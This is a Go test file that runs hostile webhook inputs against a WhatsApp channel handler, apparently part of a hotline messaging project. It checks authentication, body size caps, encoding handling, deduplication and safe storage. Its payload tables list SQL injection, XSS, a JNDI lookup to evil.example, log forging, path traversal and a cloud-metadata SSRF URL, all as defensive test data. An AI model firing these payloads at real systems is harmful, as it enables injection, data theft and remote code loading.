// SPDX-License-Identifier: AGPL-3.0-or-later

package whatsapp_test

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/lifeline-hotline/lifeline/internal/channel"
	"github.com/lifeline-hotline/lifeline/internal/channel/channeltest"
	"github.com/lifeline-hotline/lifeline/internal/channel/whatsapp"
)

// The tests of this file go through the real webhook handler, one row or
// more of ../shared/HOSTILE-INPUTS.md each; every subtest name starts with
// the row's id. docs/hostile-inputs.md maps the rows to them.

// notificationOf wraps values (JSON objects, as Meta's "value") in a
// notification for our phone number id, one change each.
func notificationOf(values ...string) []byte {
	changes := make([]string, len(values))
	for i, v := range values {
		changes[i] = `{"field":"messages","value":` + v + `}`
	}
	return []byte(`{"object":"whatsapp_business_account","entry":[{"id":"109876543210987","changes":[` + strings.Join(changes, ",") + `]}]}`)
}

// valueOf is a value carrying messages (JSON objects) from userA, named name.
func valueOf(name string, messages ...string) string {
	n, _ := json.Marshal(name)
	return `{"messaging_product":"whatsapp","metadata":{"display_phone_number":"15550109999","phone_number_id":"` + testPhoneNumberID +
		`"},"contacts":[{"profile":{"name":` + string(n) + `},"wa_id":"` + userA + `"}],"messages":[` + strings.Join(messages, ",") + `]}`
}

// textMessage is a text message from userA; body is raw JSON string content.
func textMessage(id, body string) string {
	return `{"from":"` + userA + `","id":"` + id + `","timestamp":"1750000000","type":"text","text":{"body":"` + body + `"}}`
}

func quoted(s string) string {
	b, _ := json.Marshal(s)
	return strings.Trim(string(b), `"`)
}

type hostileCase struct {
	name       string // "<HOSTILE-INPUTS id> what"
	body       []byte
	edit       func(*http.Request) // changes the signed POST; nil sends it as is
	want       int
	stored     int
	quarantine int
	check      func(*testing.T, []channel.Event)
}

// runHostile sends each case through a fresh harness and checks what the
// handler answered and stored, that nothing stored is unstorable, that no
// answer leaks a secret, and that the next valid notification is still
// taken (NEVER-5XX).
func runHostile(t *testing.T, tests []hostileCase) {
	t.Helper()
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			h := channeltest.NewHarness(mustAdapter(t, ""))
			req := signedPost(tt.body)
			if tt.edit != nil {
				tt.edit(req)
			}
			start := time.Now()
			resp := h.Do(req)
			if d := time.Since(start); d > 2*time.Second {
				t.Errorf("answered in %v", d)
			}
			if resp.Code != tt.want {
				t.Errorf("status: got %d, want %d", resp.Code, tt.want)
			}
			channeltest.MustContainNone(t, "response", resp.Body.String(), testAppSecret, testAccessToken, testVerifyToken,
				strings.TrimPrefix(channeltest.SignWhatsApp(tt.body, testAppSecret), "sha256="), "whatsapp: ", "panic")
			got := h.Recorder.Events()
			if len(got) != tt.stored {
				t.Fatalf("stored %d events, want %d", len(got), tt.stored)
			}
			channeltest.MustBeStorable(t, got)
			if n := h.Quarantine.Len(); n != tt.quarantine {
				t.Errorf("quarantined %d bodies, want %d", n, tt.quarantine)
			}
			for _, b := range h.Quarantine.Bodies {
				if len(b) > 64<<10 {
					t.Errorf("quarantined copy of %d bytes: not capped", len(b))
				}
			}
			if tt.check != nil {
				tt.check(t, got)
			}
			next := channeltest.WhatsAppTextWebhook(testPhoneNumberID, userB, "Next", "wamid.NEXT", "next", testTime.Unix())
			if code := h.Do(signedPost(next)).Code; code != http.StatusOK || len(h.Recorder.Events()) != tt.stored+1 {
				t.Errorf("next valid notification: status %d, %d events", code, len(h.Recorder.Events()))
			}
		})
	}
}

func unsignedWA(r *http.Request) { r.Header.Del("X-Hub-Signature-256") }

func textIs(want string) func(*testing.T, []channel.Event) {
	return func(t *testing.T, got []channel.Event) {
		t.Helper()
		if s := got[0].Text.Reveal(); s != want {
			t.Errorf("text: got %q, want %q", s, want)
		}
	}
}

func TestHostileTransportAndAuthentication(t *testing.T) {
	valid := mustFixture(t, "text.json")
	bomb := []byte(`{"object":"whatsapp_business_account","entry":[{"x":` + strings.Repeat("[", 100000) + strings.Repeat("]", 100000) + `}]}`)
	runHostile(t, []hostileCase{
		{name: "A-06 gzip content encoding refused, not inflated", body: valid, edit: func(r *http.Request) { r.Header.Set("Content-Encoding", "gzip") }, want: 415},
		{name: "A-07 PUT", body: valid, edit: func(r *http.Request) { r.Method = http.MethodPut }, want: 405},
		{name: "A-07 DELETE", body: valid, edit: func(r *http.Request) { r.Method = http.MethodDelete }, want: 405},
		{name: "A-08 OPTIONS", body: valid, edit: func(r *http.Request) { r.Method = http.MethodOptions }, want: 405},
		{name: "A-08 HEAD unsigned", body: valid, edit: func(r *http.Request) { r.Method = http.MethodHead; unsignedWA(r) }, want: 405},
		{name: "B-05 no X-Hub-Signature-256", body: valid, edit: unsignedWA, want: 401},
		{name: "B-06 signature over other bytes", body: valid, edit: func(r *http.Request) {
			r.Header.Set("X-Hub-Signature-256", channeltest.SignWhatsApp(append(bytes.Clone(valid), ' '), testAppSecret))
		}, want: 401},
		{name: "B-07 only the legacy sha1 header", body: valid, edit: func(r *http.Request) {
			r.Header.Set("X-Hub-Signature", "sha1="+strings.Repeat("ab", 20))
			unsignedWA(r)
		}, want: 401},
		{name: "B-13 signature in the query instead of the header", body: valid, edit: func(r *http.Request) {
			r.URL.RawQuery = "signature=" + channeltest.SignWhatsApp(valid, testAppSecret)
			unsignedWA(r)
		}, want: 401},
		{name: "D-01 nesting bomb inside entry[0], signed", body: bomb, want: 200, quarantine: 1},
		{name: "D-02 nesting bomb, unsigned", body: bomb, edit: unsignedWA, want: 401},
		{name: "D-16 Content-Type text/plain, signed", body: valid, edit: func(r *http.Request) { r.Header.Set("Content-Type", "text/plain") }, want: 200, stored: 1},
		{name: "D-16 Content-Type form, signed", body: valid, edit: func(r *http.Request) { r.Header.Set("Content-Type", "application/x-www-form-urlencoded") }, want: 200, stored: 1},
	})
}

// TestHostileBodyCaps is A-01, A-02 (for Meta), A-03 and A-04.
func TestHostileBodyCaps(t *testing.T) {
	t.Run("A-01 10 MiB with Content-Length, unsigned", func(t *testing.T) {
		h := channeltest.NewHarness(mustAdapter(t, ""))
		body := &countingReader{r: strings.NewReader(`{"object":"` + strings.Repeat("A", 10<<20) + `"}`)}
		req := httptest.NewRequest(http.MethodPost, hookPath, body)
		req.ContentLength = 10<<20 + 13
		resp := h.Do(req)
		if resp.Code != 413 && resp.Code != 401 {
			t.Errorf("status %d, want 413 or 401", resp.Code)
		}
		if body.n > 2*whatsapp.MaxBody {
			t.Errorf("read %d bytes", body.n)
		}
	})
	t.Run("A-04 endless chunked body, signed", func(t *testing.T) {
		h := channeltest.NewHarness(mustAdapter(t, ""))
		body := &countingReader{r: endless{}}
		req := httptest.NewRequest(http.MethodPost, hookPath, body)
		req.ContentLength, req.TransferEncoding = -1, []string{"chunked"}
		req.Header.Set("X-Hub-Signature-256", "sha256="+strings.Repeat("0", 64))
		if code := h.Do(req).Code; code != 413 {
			t.Errorf("status %d, want 413", code)
		}
		if body.n > 2*whatsapp.MaxBody {
			t.Errorf("read %d bytes", body.n)
		}
	})
	t.Run("A-03 3 MB cap is not lower than Meta's documented size", func(t *testing.T) {
		if whatsapp.MaxBody < 3_000_000 {
			t.Errorf("MaxBody %d < 3 MB", whatsapp.MaxBody)
		}
		// The 2.8 MB signed payload itself: TestLargeSignedPayloadAccepted.
	})
}

type countingReader struct {
	r io.Reader
	n int64
}

func (c *countingReader) Read(p []byte) (int, error) {
	n, err := c.r.Read(p)
	c.n += int64(n)
	return n, err
}

type endless struct{}

func (endless) Read(p []byte) (int, error) {
	for i := range p {
		p[i] = '['
	}
	return len(p), nil
}

// TestHostileChallenge is A-10: the verification GET never reflects more
// than a short token.
func TestHostileChallenge(t *testing.T) {
	for _, tt := range []struct {
		name      string
		challenge string
		token     string
		want      int
	}{
		{"A-10 1 MiB challenge with the right token", strings.Repeat("7", 1<<20), testVerifyToken, 400},
		{"A-10 markup challenge", "<script>alert(1)</script>", testVerifyToken, 400},
		{"A-10 challenge with the wrong token", "1158201444", "wrong", 403},
		{"A-10 ordinary challenge", "1158201444", testVerifyToken, 200},
	} {
		t.Run(tt.name, func(t *testing.T) {
			h := channeltest.NewHarness(mustAdapter(t, ""))
			req := httptest.NewRequest(http.MethodGet, hookPath+"?hub.mode=subscribe&hub.verify_token="+tt.token+"&hub.challenge="+tt.challenge, nil)
			resp := h.Do(req)
			if resp.Code != tt.want {
				t.Errorf("status %d, want %d", resp.Code, tt.want)
			}
			if resp.Body.Len() > 300 {
				t.Errorf("answer of %d bytes reflects the challenge", resp.Body.Len())
			}
			channeltest.MustContainNone(t, "answer", resp.Body.String(), testVerifyToken, "<script")
		})
	}
}

func TestHostileEncoding(t *testing.T) {
	zalgo := "Z" + strings.Repeat("\u0336", 5000)
	runHostile(t, []hostileCase{
		{name: "C-02 invalid UTF-8 in the text, valid HMAC", body: notificationOf(valueOf("N", textMessage("wamid.C02", "ok \xC3\x28 bad"))), want: 200, stored: 1, check: textIs("ok \uFFFD( bad")},
		{name: "C-02 invalid UTF-8 in the profile name", body: bytes.Replace(notificationOf(valueOf("NAME", textMessage("wamid.C02b", "x"))), []byte("NAME"), []byte("\xFF\xFEname"), 1), want: 200, stored: 1, check: func(t *testing.T, got []channel.Event) {
			if s := got[0].SenderName.Reveal(); s != "\uFFFD\uFFFDname" {
				t.Errorf("name %q", s)
			}
		}},
		{name: "C-03 NUL escape in the text", body: notificationOf(valueOf("N", textMessage("wamid.C03", `a\u0000b`))), want: 200, stored: 1, check: textIs("a\uFFFDb")},
		{name: "C-03 NUL escape in the profile name", body: notificationOf(valueOf("A\x00B", textMessage("wamid.C03b", "x"))), want: 200, stored: 1, check: func(t *testing.T, got []channel.Event) {
			if s := got[0].SenderName.Reveal(); s != "A\uFFFDB" {
				t.Errorf("name %q", s)
			}
		}},
		{name: "C-04 lone surrogates", body: notificationOf(valueOf("N", textMessage("wamid.C04", `\ud800 \udfff\ud800`))), want: 200, stored: 1, check: textIs("\uFFFD \uFFFD\uFFFD")},
		{name: "C-05 byte order mark before the JSON", body: append([]byte("\xEF\xBB\xBF"), mustFixture(t, "text.json")...), want: 200, quarantine: 1},
		{name: "C-08 overlong UTF-8 for a slash", body: notificationOf(valueOf("N", textMessage("wamid.C08", "a\xC0\xAFb"))), want: 200, stored: 1, check: func(t *testing.T, got []channel.Event) {
			if s := got[0].Text.Reveal(); strings.Contains(s, "/") {
				t.Errorf("overlong slash decoded: %q", s)
			}
		}},
		{name: "C-10 combining-character flood as name and text", body: notificationOf(valueOf(zalgo, textMessage("wamid.C10", zalgo))), want: 200, stored: 1, check: func(t *testing.T, got []channel.Event) {
			if got[0].Text.Reveal() != zalgo || got[0].SenderName.Reveal() != zalgo {
				t.Error("not stored verbatim")
			}
		}},
	})
}

func TestHostileStructure(t *testing.T) {
	msg := func(m string) []byte { return notificationOf(valueOf("N", m)) }
	own := `{"from":"` + userA + `","id":"wamid.D05","timestamp":"1750000000","type":`
	entries := `{"object":"whatsapp_business_account","entry":[` + strings.TrimSuffix(strings.Repeat("{},", 100000), ",") + `]}`
	placeholder := func(t *testing.T, got []channel.Event) {
		if got[0].Kind != channel.KindOther || got[0].Type != channel.EventMessage {
			t.Errorf("got %s %s, want a placeholder message", got[0].Type, got[0].Kind)
		}
	}
	receipt := func(t *testing.T, got []channel.Event) {
		if time.Since(got[0].Time) > time.Minute {
			t.Errorf("time %v, want the time of receipt", got[0].Time)
		}
	}
	runHostile(t, []hostileCase{
		{name: "D-03 100000 empty entries", body: []byte(entries), want: 200},
		{name: "D-04 object page", body: []byte(`{"object":"page","entry":[{"changes":[{"field":"messages","value":` + valueOf("N", textMessage("wamid.P", "x")) + `}]}]}`), want: 200},
		{name: "D-04 object instagram", body: []byte(`{"object":"instagram","entry":[]}`), want: 200},
		{name: "D-04 entry empty", body: []byte(`{"object":"whatsapp_business_account","entry":[]}`), want: 200},
		{name: "D-04 changes missing", body: []byte(`{"object":"whatsapp_business_account","entry":[{"id":"1"}]}`), want: 200},
		{name: "D-04 value null", body: notificationOf("null"), want: 200},
		{name: "D-04 messages an object", body: notificationOf(`{"metadata":{"phone_number_id":"` + testPhoneNumberID + `"},"messages":{}}`), want: 200, quarantine: 1},
		{name: "D-04 entry an object", body: []byte(`{"object":"whatsapp_business_account","entry":{}}`), want: 200, quarantine: 1},
		{name: "D-05 type text without text", body: msg(own + `"text"}`), want: 200, stored: 1, check: placeholder},
		{name: "D-05 type image without image", body: msg(own + `"image"}`), want: 200, stored: 1, check: placeholder},
		{name: "D-05 type location without location", body: msg(own + `"location"}`), want: 200, stored: 1, check: placeholder},
		{name: "D-05 type interactive without interactive", body: msg(own + `"interactive"}`), want: 200, stored: 1, check: placeholder},
		{name: "D-05 unknown type hologram", body: msg(own + `"hologram","hologram":{"x":1}}`), want: 200, stored: 1, check: placeholder},
		{name: "D-06 timestamp a number", body: msg(`{"from":"` + userA + `","id":"wamid.D06a","timestamp":1750000000,"type":"text","text":{"body":"x"}}`), want: 200, stored: 1, check: func(t *testing.T, got []channel.Event) {
			if !got[0].Time.Equal(testTime) {
				t.Errorf("time %v", got[0].Time)
			}
		}},
		{name: "D-06 timestamp abc", body: msg(`{"from":"` + userA + `","id":"wamid.D06b","timestamp":"abc","type":"text","text":{"body":"x"}}`), want: 200, stored: 1, check: receipt},
		{name: "D-06 timestamp in the year 5138", body: msg(`{"from":"` + userA + `","id":"wamid.D06c","timestamp":"99999999999","type":"text","text":{"body":"x"}}`), want: 200, stored: 1, check: receipt},
		{name: "D-06 timestamp an object", body: msg(`{"from":"` + userA + `","id":"wamid.D06d","timestamp":{"s":1},"type":"text","text":{"body":"x"}}`), want: 200, stored: 1, check: receipt},
		{name: "D-07 phone_number_id not ours", body: mustFixture(t, "other_phone_number_id.json"), want: 200},
		{name: "D-07 metadata missing", body: notificationOf(`{"messages":[` + textMessage("wamid.D07", "x") + `]}`), want: 200},
	})
}

// TestHostileContent is section F for Meta: each string stored byte for
// byte as a profile name, a text, a caption, a document's file name and an
// interactive reply's title.
func TestHostileContent(t *testing.T) {
	payloads := map[string][]string{
		"F-01 bidi overrides and isolates":  {"\u202Eevil\u202C", "gnp.\u202Eexe", "\u2067مرحبا\u2069 Operator"},
		"F-02 zero-width characters":        {"Op\u200Berator", "\u200D\u200C\u2060\uFEFF"},
		"F-03 homoglyph staff name":         {"Оператор горячей линии", "H\u043etline Operator"},
		"F-04 SQL injection":                {"'); DROP TABLE messages;--", "' OR '1'='1", `\'; SELECT pg_sleep(10);--`},
		"F-05 HTML and script":              {"<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(1)", `"><svg onload=alert(1)>`},
		"F-08 log forging and terminal ESC": {"line1\r\n2026-06-21 INFO admin login ok", "\u001b[2J\u001b[31mALERT"},
		"F-09 template and format strings":  {"{{7*7}}", "${jndi:ldap://evil.example/a}", "%s%s%s%n", `{"$gt":""}`},
	}
	var tests []hostileCase
	n := 0
	for id, values := range payloads {
		for i, v := range values {
			n++
			want, q := v, quoted(v)
			textID, docID, replyID := fmt.Sprintf("wamid.F%dT", n), fmt.Sprintf("wamid.F%dD", n), fmt.Sprintf("wamid.F%dI", n)
			// Meta escapes non-ASCII as \uXXXX; so does the fake.
			text := channeltest.WhatsAppEscape(notificationOf(valueOf(v, textMessage(textID, q))))
			doc := notificationOf(valueOf("N", `{"from":"`+userA+`","id":"`+docID+`","timestamp":"1750000000","type":"document","document":{"id":"1234567890","mime_type":"application/pdf","filename":"`+q+`","caption":"`+q+`"}}`))
			reply := notificationOf(valueOf("N", `{"from":"`+userA+`","id":"`+replyID+`","timestamp":"1750000000","type":"interactive","interactive":{"type":"button_reply","button_reply":{"id":"","title":"`+q+`"}}}`))
			tests = append(tests,
				hostileCase{name: fmt.Sprintf("%s #%d as profile name and text", id, i), body: text, want: 200, stored: 1, check: func(t *testing.T, got []channel.Event) {
					if got[0].Text.Reveal() != want || got[0].SenderName.Reveal() != want || got[0].Sender.Reveal() != userA {
						t.Errorf("text %q, name %q, sender %q", got[0].Text.Reveal(), got[0].SenderName.Reveal(), got[0].Sender.Reveal())
					}
				}},
				hostileCase{name: fmt.Sprintf("%s #%d as document file name and caption", id, i), body: doc, want: 200, stored: 1, check: func(t *testing.T, got []channel.Event) {
					if got[0].Text.Reveal() != want || len(got[0].Media) != 1 || got[0].Media[0].ProviderID != "1234567890" {
						t.Errorf("caption %q, media %+v", got[0].Text.Reveal(), got[0].Media)
					}
				}},
				hostileCase{name: fmt.Sprintf("%s #%d as interactive title", id, i), body: reply, want: 200, stored: 1, check: func(t *testing.T, got []channel.Event) {
					if got[0].Type != channel.EventCallback || got[0].Text.Reveal() != want {
						t.Errorf("got %s %q", got[0].Type, got[0].Text.Reveal())
					}
				}},
			)
		}
	}
	long := strings.Repeat("Ж", 65536)
	tests = append(tests,
		hostileCase{name: "F-10 document file name that is a path", body: notificationOf(valueOf("N", `{"from":"`+userA+`","id":"wamid.F10","timestamp":"1","type":"document","document":{"id":"1234567890","filename":"..\\..\\boot.ini"}}`)), want: 200, stored: 1, check: func(t *testing.T, got []channel.Event) {
			if len(got[0].Media) != 1 || got[0].Media[0].ProviderID != "1234567890" || strings.Contains(got[0].Text.Reveal(), "boot") {
				t.Errorf("got %+v", got[0])
			}
		}},
		hostileCase{name: "F-10 media id that is a path", body: notificationOf(valueOf("N", `{"from":"`+userA+`","id":"wamid.F10b","timestamp":"1","type":"document","document":{"id":"../../me"}}`)), want: 200, stored: 1, check: func(t *testing.T, got []channel.Event) {
			if len(got[0].Media) != 0 {
				t.Errorf("unusable media id kept: %+v", got[0].Media)
			}
		}},
		hostileCase{name: "F-13 text of 65536 characters", body: channeltest.WhatsAppTextWebhook(testPhoneNumberID, userA, "N", "wamid.F13", long, testTime.Unix()), want: 200, stored: 1, check: textIs(long)},
	)
	runHostile(t, tests)
}

func TestHostileMediaAndSemantics(t *testing.T) {
	var images []string
	for i := range 1000 {
		images = append(images, fmt.Sprintf(`{"from":"%s","id":"wamid.G04.%d","timestamp":"1750000000","type":"image","image":{"id":"%d","mime_type":"image/jpeg"}}`, userA, i, 900000+i))
	}
	runHostile(t, []hostileCase{
		{name: "G-03 image url to an internal host is not kept", body: notificationOf(valueOf("N", `{"from":"`+userA+`","id":"wamid.G03","timestamp":"1","type":"image","image":{"id":"1234567890","url":"http://169.254.169.254/latest/meta-data/","mime_type":"image/jpeg"}}`)), want: 200, stored: 1, check: func(t *testing.T, got []channel.Event) {
			if len(got[0].Media) != 1 || got[0].Media[0].ProviderID != "1234567890" {
				t.Errorf("media %+v: want the media id only", got[0].Media)
			}
		}},
		{name: "G-04 batch of 1000 image messages", body: notificationOf(valueOf("N", images...)), want: 200, stored: 1000},
		{name: "H-03 status sent", body: mustFixture(t, "status_sent.json"), want: 200, stored: 1, check: statusOnly},
		{name: "H-03 status failed", body: mustFixture(t, "status_failed.json"), want: 200, stored: 1, check: statusOnly},
		{name: "H-03 status played is not tracked", body: mustFixture(t, "status_played.json"), want: 200},
		{name: "H-04 smb_message_echoes field", body: []byte(`{"object":"whatsapp_business_account","entry":[{"changes":[{"field":"smb_message_echoes","value":` + valueOf("N", textMessage("wamid.H04", "echo")) + `}]}]}`), want: 200},
		{name: "H-04 message from our own number", body: notificationOf(`{"metadata":{"display_phone_number":"+1 555-010-9999","phone_number_id":"` + testPhoneNumberID + `"},"messages":[{"from":"15550109999","id":"wamid.H04b","timestamp":"1","type":"text","text":{"body":"echo"}}]}`), want: 200},
		{name: "H-09 sender with a business-scoped user id only", body: mustFixture(t, "bsuid_only.json"), want: 200, stored: 1, check: func(t *testing.T, got []channel.Event) {
			if got[0].Sender.Reveal() != "US.13491208655302741918" {
				t.Errorf("sender %q", got[0].Sender.Reveal())
			}
		}},
		{name: "H-13 unsupported message kept as a placeholder", body: mustFixture(t, "unsupported.json"), want: 200, stored: 1, check: func(t *testing.T, got []channel.Event) {
			if got[0].Kind != channel.KindOther || got[0].Type != channel.EventMessage {
				t.Errorf("got %s %s", got[0].Type, got[0].Kind)
			}
		}},
	})
}

func statusOnly(t *testing.T, got []channel.Event) {
	t.Helper()
	if got[0].Type != channel.EventStatus || got[0].Status == nil {
		t.Errorf("got %+v, want a status event only", got[0])
	}
}

// TestHostileDuplicates is E-02, E-03, E-06 and E-09.
func TestHostileDuplicates(t *testing.T) {
	text := mustFixture(t, "text.json")
	var first channel.Event
	{
		b, err := mustAdapter(t, "").Parse(nil, text)
		if err != nil || len(b.Events) != 1 {
			t.Fatalf("fixture: %v", err)
		}
		first = b.Events[0]
	}
	// The same message again, inside a batch with another one.
	batch := bytes.Replace(text, []byte(`"messages":[`), []byte(`"messages":[`+textMessage("wamid.E02other", "second")+`,`), 1)
	if bytes.Equal(batch, text) {
		t.Fatal("fixture has no messages array")
	}

	deliver := func(t *testing.T, h *channeltest.Harness, body []byte) {
		t.Helper()
		if code := h.Do(signedPost(body)).Code; code != 200 {
			t.Fatalf("status %d", code)
		}
	}

	t.Run("E-02 twice, then inside a batch: stored once", func(t *testing.T) {
		h := channeltest.NewHarness(mustAdapter(t, ""))
		deliver(t, h, text)
		deliver(t, h, text)
		deliver(t, h, batch)
		got := h.Recorder.Events()
		if len(got) != 2 || got[0].ID != first.ID || got[1].ID != "wamid.E02other" {
			t.Errorf("got %d events, want the message once and the other one", len(got))
		}
	})
	t.Run("E-02 concurrent duplicates", func(t *testing.T) {
		h := channeltest.NewHarness(mustAdapter(t, ""))
		var wg sync.WaitGroup
		for range 20 {
			wg.Go(func() {
				if code := h.Do(signedPost(text)).Code; code != 200 {
					t.Errorf("status %d", code)
				}
			})
		}
		wg.Wait()
		if got := len(h.Recorder.Events()); got != 1 {
			t.Errorf("stored %d, want 1", got)
		}
	})
	t.Run("E-03 one body with the same wamid twice", func(t *testing.T) {
		a := mustAdapter(t, "")
		b, err := a.Parse(nil, mustFixture(t, "duplicate_in_body.json"))
		if err != nil || len(b.Events) != 1 {
			t.Errorf("got %d events, %v; want 1", len(b.Events), err)
		}
	})
	t.Run("E-06 read then delivered: distinct events, for the store's monotonic state", func(t *testing.T) {
		h := channeltest.NewHarness(mustAdapter(t, ""))
		deliver(t, h, mustFixture(t, "status_read.json"))
		deliver(t, h, mustFixture(t, "status_delivered.json"))
		got := h.Recorder.Events()
		if len(got) != 2 || got[0].Status.State != "read" || got[1].Status.State != "delivered" {
			t.Errorf("got %+v", got)
		}
	})
	t.Run("E-09 replayed 3 days later: not refused for its age, stored once", func(t *testing.T) {
		h := channeltest.NewHarness(mustAdapter(t, ""))
		old := channeltest.WhatsAppTextWebhook(testPhoneNumberID, userA, "N", "wamid.E09", "x", time.Now().Add(-72*time.Hour).Unix())
		deliver(t, h, old)
		deliver(t, h, old)
		if got := h.Recorder.Events(); len(got) != 1 || time.Since(got[0].Time) < 71*time.Hour {
			t.Errorf("got %d events; want 1 with the original time", len(got))
		}
	})
}
